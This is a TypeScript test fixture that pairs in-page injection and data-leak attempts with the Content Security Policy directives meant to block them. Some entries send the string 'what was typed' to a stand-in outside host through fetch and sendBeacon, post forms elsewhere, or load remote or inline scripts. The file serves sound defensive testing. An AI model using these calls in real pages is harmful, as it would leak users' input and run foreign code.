/**
 * What a script in the page could try, and the directive of the policy that must refuse it. Each runs inside the page, so it
 * holds all that it needs.
 */
export const ATTEMPTS: readonly (readonly [what: string, directive: string, attempt: () => unknown])[] = [
  [
    'a script written into the page',
    'script-src-elem',
    () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' })),
  ],
  [
    'a script from elsewhere',
    'script-src-elem',
    () => document.body.append(Object.assign(document.createElement('script'), { src: 'https://example.nl/x.js' })),
  ],
  [
    'a script in an address',
    'script-src-elem',
    () => document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ran = true' })),
  ],
  [
    'a script that the page made',
    'script-src-elem',
    () => {
      const src = URL.createObjectURL(new Blob(['window.ran = true'], { type: 'text/javascript' }))
      document.body.append(Object.assign(document.createElement('script'), { src }))
    },
  ],
  ['a module from elsewhere', 'script-src-elem', () => import(/* @vite-ignore */ 'https://example.nl/module.js' as string)],
  [
    'a link that is a script',
    'script-src-elem',
    () => {
      const link = document.createElement('a')
      link.setAttribute('href', 'javascript:window.ran = true')
      document.body.append(link)
      link.click()
    },
  ],
  [
    'a script in an attribute',
    'script-src-attr',
    () => {
      const box = document.createElement('div')
      box.setAttribute('onclick', 'window.ran = true')
      document.body.append(box)
      box.click()
    },
  ],
  // A frame later: what a debugger evaluates itself is let through.
  ['code from text', 'script-src', () => requestAnimationFrame(() => Reflect.construct(Function, ['window.ran = true'])())],
  [
    'a style written into the page',
    'style-src-elem',
    () => document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { outline: 1px solid red }' })),
  ],
  ['a style in an attribute', 'style-src-attr', () => document.body.setAttribute('style', 'outline: 1px solid red')],
  [
    'a style sheet from elsewhere',
    'style-src-elem',
    () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://example.nl/x.css' })),
  ],
  [
    'a picture from elsewhere',
    'img-src',
    () => document.body.append(Object.assign(document.createElement('img'), { src: 'https://example.nl/pixel.png' })),
  ],
  ['a font from elsewhere', 'font-src', () => new FontFace('x', 'url(https://example.nl/x.woff2)').load()],
  [
    'a sound from elsewhere',
    'media-src',
    () => document.body.append(Object.assign(document.createElement('audio'), { src: 'https://example.nl/x.mp3' })),
  ],
  [
    'a frame from elsewhere',
    'frame-src',
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.nl/' })),
  ],
  [
    'a frame with the app in it',
    'frame-src',
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: location.pathname })),
  ],
  ['a plug-in', 'object-src', () => document.body.append(Object.assign(document.createElement('object'), { data: 'https://example.nl/' }))],
  ['a request', 'connect-src', () => fetch('https://example.nl/', { method: 'POST', body: 'what was typed' })],
  [
    'a request as it was made before',
    'connect-src',
    () => {
      const request = new XMLHttpRequest()
      request.open('GET', 'https://example.nl/')
      request.send()
    },
  ],
  ['a web socket', 'connect-src', () => new WebSocket('wss://example.nl/')],
  ['a stream of events', 'connect-src', () => new EventSource('https://example.nl/')],
  ['a last word on leaving', 'connect-src', () => navigator.sendBeacon('https://example.nl/', 'what was typed')],
  ['a worker that the page made', 'worker-src', () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))],
  [
    'a file fetched for later',
    'default-src',
    () => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://example.nl/x' })),
  ],
  [
    'another base for all addresses',
    'base-uri',
    () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://example.nl/' })),
  ],
  [
    'a form that is sent elsewhere',
    'form-action',
    () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://example.nl/', method: 'post' })
      document.body.append(form)
      form.submit()
    },
  ],
]
